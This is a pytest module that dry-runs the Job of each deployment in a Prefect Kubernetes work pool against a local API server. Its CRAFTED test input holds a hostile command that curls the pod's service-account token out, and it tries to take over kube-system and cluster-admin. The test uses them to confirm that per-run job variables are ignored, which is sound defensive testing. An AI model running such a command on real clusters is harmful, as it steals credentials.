"""The Kubernetes work pool of deployments/prefect.yaml: the Job of each deployment, as the
prefect-kubernetes worker would create it, is accepted by the local platform's API server.

KWOK runs no container, so creating the Job would prove little more than a dry run does: for
each deployment the test builds the Job with prefect-kubernetes' own code (the pool's base job
template, deployments/kubernetes-job-template.json, filled with the pool's job variables for a
flow run of that deployment, as the worker does), then POSTs it with the worker's own client
library under `dryRun=All`, so the API server validates and admits it without storing it. The
namespace carries the `restricted` Pod Security level in warn mode: a pod template that would
break it comes back with a warning, and so does a field Kubernetes does not know.
"""

from __future__ import annotations

import asyncio
import copy
import importlib
import json
import re
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

import pytest
import yaml
from kubernetes import client
from kubernetes_asyncio import client as async_client
from kubernetes_asyncio import config as async_config
from prefect.client.schemas.objects import Flow, FlowRun, WorkPool
from prefect.client.schemas.responses import DeploymentResponse
from prefect.server.schemas.actions import validate_base_job_template
from prefect.utilities.schema_tools import validate
from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

from conveyor.platform.local import LocalPlatform

pytestmark = pytest.mark.platform

REPO_ROOT = Path(__file__).resolve().parents[2]
PREFECT_YAML = REPO_ROOT / "deployments" / "prefect.yaml"
JOB_TEMPLATE = REPO_ROOT / "deployments" / "kubernetes-job-template.json"

# prefect-kubernetes refuses a template without `parallelism: 1` and `completions: 1` in the pod
# spec, where Kubernetes has no such fields (they belong to the Job's spec): the API server drops
# them with these warnings. Any other warning fails the test.
TOLERATED_WARNINGS = {
    'unknown field "spec.template.spec.completions"',
    'unknown field "spec.template.spec.parallelism"',
}


def project() -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load(PREFECT_YAML.read_text())
    return loaded


def job_template() -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(JOB_TEMPLATE.read_text())
    return loaded


def kubernetes_pool() -> dict[str, Any]:
    pool: dict[str, Any] = project()["definitions"]["k8s_work_pool"]
    return pool


def pool_job_variables(deployment: dict[str, Any]) -> dict[str, Any]:
    """The job variables `deployment` has on the Kubernetes pool: its own when it is on that pool
    already, otherwise the pool's (what `work_pool: *k8s_pool` gives it)."""
    pool = kubernetes_pool()
    work_pool = deployment.get("work_pool") or {}
    chosen = work_pool if work_pool.get("name") == pool["name"] else pool
    return copy.deepcopy(chosen.get("job_variables") or {})


def effective_variables(template: dict[str, Any], job_variables: dict[str, Any]) -> dict[str, Any]:
    """The template's defaults with the job variables on top."""
    properties = template["variables"]["properties"]
    defaults = {name: spec["default"] for name, spec in properties.items() if "default" in spec}
    return defaults | job_variables


DEPLOYMENTS: list[dict[str, Any]] = project()["deployments"]


def deployment_id(deployment: dict[str, Any]) -> str:
    return f"{deployment['entrypoint'].rpartition(':')[2]}/{deployment['name']}"


class FlowOnlyClient:
    """Stands in for the worker's Prefect client: it answers the one read the worker makes for a
    run (its flow) and has nothing else, so a template or job variable that needs a block or a
    Prefect variable fails here instead of passing unseen."""

    def __init__(self, flow: Flow) -> None:
        self.flow = flow

    async def read_flow(self, flow_id: uuid.UUID) -> Flow:
        assert flow_id == self.flow.id
        return self.flow


@dataclass(frozen=True)
class Rendered:
    manifest: dict[str, Any]
    flow_run: FlowRun


def render_job(
    deployment: dict[str, Any],
    template: dict[str, Any],
    job_variables: dict[str, Any],
    run_job_variables: dict[str, Any] | None = None,
) -> Rendered:
    """The Job manifest prefect-kubernetes' worker builds for a flow run of `deployment` on a
    Kubernetes pool with `template`, the deployment carrying `job_variables` and the run
    `run_job_variables` (what a caller of the API may give the run it creates)."""
    path, _, function = deployment["entrypoint"].partition(":")
    module = importlib.import_module(path.removesuffix(".py").replace("/", "."))
    flow = Flow(id=uuid.uuid4(), name=getattr(module, function).name)
    pool = WorkPool(name=kubernetes_pool()["name"], type="kubernetes", base_job_template=template)
    registered = DeploymentResponse(
        id=uuid.uuid4(),
        name=deployment["name"],
        flow_id=flow.id,
        entrypoint=deployment["entrypoint"],
        parameters=deployment.get("parameters") or {},
        tags=deployment.get("tags") or [],
        job_variables=job_variables,
        work_pool_name=pool.name,
    )
    flow_run = FlowRun(
        id=uuid.uuid4(),
        name=f"check-{uuid.uuid4().hex[:8]}",
        flow_id=flow.id,
        deployment_id=registered.id,
        parameters=registered.parameters,
        work_pool_name=pool.name,
        job_variables=run_job_variables or {},
    )
    configuration = asyncio.run(
        KubernetesWorkerJobConfiguration.resolve_for_flow_run(
            flow_run,
            client=cast(Any, FlowOnlyClient(flow)),
            work_pool=pool,
            worker_name="conveyor-dry-run",
            deployment=registered,
        )
    )
    return Rendered(configuration.job_manifest, flow_run)


@dataclass(frozen=True)
class DryRun:
    job: Any  # kubernetes_asyncio's V1Job: the object the API server would have stored
    warnings: list[str]


def unquote_warning(header: str) -> str:
    """`299 - "unknown field \\"x\\""` -> `unknown field "x"` (RFC 7234 warning header)."""
    match = re.fullmatch(r'\d{3} \S+ "(.*)"', header)
    assert match, header
    return match.group(1).replace('\\"', '"').replace("\\\\", "\\")


def unexpected_warnings(dry_run: DryRun) -> list[str]:
    return [warning for warning in dry_run.warnings if warning not in TOLERATED_WARNINGS]


def dry_run_create(kubeconfig: Path, namespace: str, manifest: dict[str, Any]) -> DryRun:
    """POST the Job as the worker does (kubernetes_asyncio's create_namespaced_job), with
    `dryRun=All`; an ApiException means the API server refused it."""

    async def create() -> DryRun:
        api = await async_config.new_client_from_config(
            config_file=str(kubeconfig), persist_config=False
        )
        async with api:
            job, _, headers = await async_client.BatchV1Api(
                api
            ).create_namespaced_job_with_http_info(
                namespace, manifest, dry_run="All", field_validation="Warn"
            )
        return DryRun(job, [unquote_warning(h) for h in headers.getall("Warning", [])])

    return asyncio.run(create())


@pytest.fixture(scope="module")
def job_namespace(kube_api: Any) -> Iterator[str]:
    """A namespace of this module's own that warns about pods below the restricted level."""
    core = client.CoreV1Api(kube_api)
    name = f"t-k8s-pool-{uuid.uuid4().hex[:8]}"
    labels = {"pod-security.kubernetes.io/warn": "restricted"}
    core.create_namespace(
        client.V1Namespace(metadata=client.V1ObjectMeta(name=name, labels=labels))
    )
    yield name
    core.delete_namespace(name)


def retarget(manifest: dict[str, Any], namespace: str) -> dict[str, Any]:
    """The same Job in the test's namespace (the pool's namespace does not exist here)."""
    moved = copy.deepcopy(manifest)
    moved["metadata"]["namespace"] = namespace
    return moved


def test_prefect_accepts_the_template_and_the_pools_job_variables() -> None:
    # What the Prefect server checks on `prefect work-pool create` and `prefect deploy`.
    template = job_template()
    validate_base_job_template(template)
    for deployment in DEPLOYMENTS:
        validate(
            pool_job_variables(deployment),
            template["variables"],
            raise_on_error=True,
            preprocess=True,
            ignore_required=True,
            allow_none_with_default=True,
        )


@pytest.mark.parametrize("deployment", DEPLOYMENTS, ids=deployment_id)
def test_the_api_server_accepts_the_job_of_each_deployment(
    deployment: dict[str, Any], platform: LocalPlatform, job_namespace: str
) -> None:
    template = job_template()
    job_variables = pool_job_variables(deployment)
    expected = effective_variables(template, job_variables)
    fixed = fixed_by_template(template)
    rendered = render_job(deployment, template, job_variables)
    assert rendered.manifest["metadata"]["namespace"] == fixed.namespace

    result = dry_run_create(
        platform.kubernetes.kubeconfig, job_namespace, retarget(rendered.manifest, job_namespace)
    )

    assert unexpected_warnings(result) == []
    job = result.job
    assert job.metadata.namespace == job_namespace
    assert job.metadata.name.startswith(rendered.manifest["metadata"]["generateName"])
    assert job.spec.backoff_limit == 0
    assert job.spec.ttl_seconds_after_finished == expected["finished_job_ttl"]
    pod = job.spec.template.spec
    assert pod.service_account_name == fixed.service_account
    assert pod.security_context.run_as_non_root is True
    [container] = pod.containers
    assert container.image == fixed.image
    assert container.args == ["prefect", "flow-run", "execute"]
    env = {variable.name: variable.value for variable in container.env}
    assert env["PREFECT__FLOW_RUN_ID"] == str(rendered.flow_run.id)
    for name, value in fixed.env.items():
        assert env[name] == value, name
    assert set(container.resources.requests) == {"cpu", "memory"}
    assert set(container.resources.limits) == {"cpu", "memory"}


@dataclass(frozen=True)
class Fixed:
    """What the template itself sets, which no job variable reaches."""

    namespace: str
    service_account: str
    image: str
    env: dict[str, str]


def fixed_by_template(template: dict[str, Any]) -> Fixed:
    configuration = template["job_configuration"]
    pod = configuration["job_manifest"]["spec"]["template"]["spec"]
    [container] = pod["containers"]
    return Fixed(
        configuration["namespace"],
        pod["serviceAccountName"],
        container["image"],
        {variable["name"]: variable["value"] for variable in container["env"]},
    )


CRAFTED = {
    "image": "registry.example/theirs:latest",
    "command": "sh -c 'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token x'",
    "env": {"CONVEYOR_CONFIG": "/tmp/theirs.yaml", "PREFECT_API_URL": "http://theirs"},
    "namespace": "kube-system",
    "service_account_name": "cluster-admin",
    "cluster_config": {"$ref": {"block_document_id": str(uuid.uuid4())}},
}


@pytest.mark.parametrize("deployment", DEPLOYMENTS[:1], ids=deployment_id)
def test_a_runs_job_variables_cannot_choose_what_the_job_runs(deployment: dict[str, Any]) -> None:
    """A caller of the API creates a run with job variables of its own: the Job still runs the
    template's image, command and environment, in its namespace, as its service account."""
    template = job_template()
    fixed = fixed_by_template(template)
    rendered = render_job(deployment, template, pool_job_variables(deployment), CRAFTED)
    manifest = rendered.manifest
    pod = manifest["spec"]["template"]["spec"]
    [container] = pod["containers"]
    assert manifest["metadata"]["namespace"] == fixed.namespace
    assert pod["serviceAccountName"] == fixed.service_account
    assert container["image"] == fixed.image
    assert container["args"] == ["prefect", "flow-run", "execute"]
    env = {variable["name"]: variable["value"] for variable in container["env"]}
    assert "CONVEYOR_CONFIG" not in env and env.get("PREFECT_API_URL") != "http://theirs", env
    assert {name: env[name] for name in fixed.env} == fixed.env


def without_pod_security_context(template: dict[str, Any]) -> None:
    del template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]["securityContext"]


def with_negative_backoff_limit(template: dict[str, Any]) -> None:
    template["job_configuration"]["job_manifest"]["spec"]["backoffLimit"] = -1


def test_a_pod_template_below_the_restricted_level_is_reported(
    platform: LocalPlatform, job_namespace: str
) -> None:
    template = job_template()
    without_pod_security_context(template)
    deployment = DEPLOYMENTS[0]
    rendered = render_job(deployment, template, pool_job_variables(deployment))

    result = dry_run_create(
        platform.kubernetes.kubeconfig, job_namespace, retarget(rendered.manifest, job_namespace)
    )

    [warning] = unexpected_warnings(result)
    assert 'would violate PodSecurity "restricted' in warning
    assert "runAsNonRoot" in warning


@pytest.mark.parametrize(
    ("change_template", "job_variables", "field"),
    [
        (with_negative_backoff_limit, {}, "spec.backoffLimit"),
        (None, {"memory_request": "2Gi", "memory_limit": "1Gi"}, "resources.requests"),
    ],
    ids=["negative-backoff-limit", "request-above-limit"],
)
def test_the_api_server_refuses_an_invalid_job(
    change_template: Any,
    job_variables: dict[str, Any],
    field: str,
    platform: LocalPlatform,
    job_namespace: str,
) -> None:
    template = job_template()
    if change_template is not None:
        change_template(template)
    deployment = DEPLOYMENTS[0]
    variables = pool_job_variables(deployment) | job_variables
    rendered = render_job(deployment, template, variables)

    with pytest.raises(async_client.ApiException) as refused:
        dry_run_create(
            platform.kubernetes.kubeconfig,
            job_namespace,
            retarget(rendered.manifest, job_namespace),
        )

    assert refused.value.status == 422
    assert field in json.loads(refused.value.body)["message"]
